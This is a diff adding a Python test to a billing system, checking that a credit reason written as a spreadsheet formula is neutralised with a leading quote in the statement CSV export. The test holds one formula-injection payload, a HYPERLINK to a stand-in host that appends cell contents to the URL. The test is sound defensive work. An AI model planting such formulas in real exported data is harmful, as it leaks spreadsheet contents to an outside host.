@@ -3,6 +3,8 @@ meet it: absurd rates, bad days, work that was never done, a line credited twice
 
 from __future__ import annotations
 
+import csv
+import io
 from datetime import UTC, datetime
 from typing import Any
 
@@ -257,3 +259,29 @@ def _close_in_chunks(db: Database, key: str) -> Any:
         return run_chunked_command(
             db, SYSTEM, "billing.close_period", key, {"period": "2026-11"}, job, chunk_ms=0
         ).value
+
+
+def test_a_credit_reason_a_spreadsheet_would_run_is_quoted_in_the_statement_csv(
+    db: Database,
+) -> None:
+    site.seed(db)
+    site.set_tariff(
+        db,
+        at("2026-01-01"),
+        effective_from="2026-01-01",
+        rates=[{"charge_code": "inbound.unit", "rate_fen": 10}],
+    )
+    site.move(db, at("2026-11-03"), "receive", 1, 10, None, 1)
+    november = site.close(db, at("2026-12-01"), "2026-11")["statements"][0]["id"]
+    [line] = db.read(lambda c: service.stored_statement(c, november)).lines
+    formula = '=HYPERLINK("http://x.example/?"&A1,"refund")'
+    req = CreditLine(line_id=line.id, amount_fen=30, reason=formula)
+    site.command(
+        db, at("2026-12-05"), "billing.credit_line", lambda c, ctx: service.credit_line(c, ctx, req)
+    )
+    december = site.close(db, at("2027-01-01"), "2026-12")["statements"][0]["id"]
+
+    text = db.read(lambda c: service.statement_csv(service.stored_statement(c, december)))
+    rows = list(csv.reader(io.StringIO(text)))
+    credit = next(r for r in rows if r[3] == "credit.disputed")
+    assert (credit[8], credit[9]) == ("-30", "'" + formula)  # the amount stays a number
